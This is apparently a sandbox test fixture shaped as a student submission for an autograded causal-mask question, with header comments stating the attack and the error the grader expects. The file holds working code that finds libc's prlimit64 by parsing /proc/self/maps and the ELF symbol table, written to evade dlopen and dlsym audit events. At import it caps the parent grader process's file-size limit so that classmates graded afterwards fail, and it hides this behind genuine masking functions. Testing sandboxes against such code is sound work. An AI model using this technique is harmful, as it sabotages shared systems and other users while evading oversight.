# attack: calls libc's prlimit64 through a ctypes function pointer made from an address (libc's base in /proc/self/maps plus the symbol's offset in libc's own symbol table: no dlopen or dlsym audit event) to set the zygote's output limit to 4 KiB, so that every classmate's child after it fails; imports and answers right only when the call worked
# expect: module=q01_causal_mask status=error match=Errno 1\] prlimit64 on the zygote failed
# path: sandbox grade-dir gradescope user user-nbgrader user-autograde user-scheduler user-gradescope
"""Question 1, written to zero the classmates graded after it."""
import ctypes
import os
import struct

import torch
from torch import Tensor


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """prlimit64(zygote, RLIMIT_FSIZE, {4096, 4096}, NULL): the zygote's children inherit it, and fail to set their own."""
    prlimit = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, use_errno=True, *( ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p))(libc_symbol(b"prlimit64"))
    limit = (ctypes.c_uint64 * 2)(4096, 4096)
    if prlimit(os.getppid(), 1, ctypes.addressof(limit), None) != 0:
        raise OSError(ctypes.get_errno(), "prlimit64 on the zygote failed")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
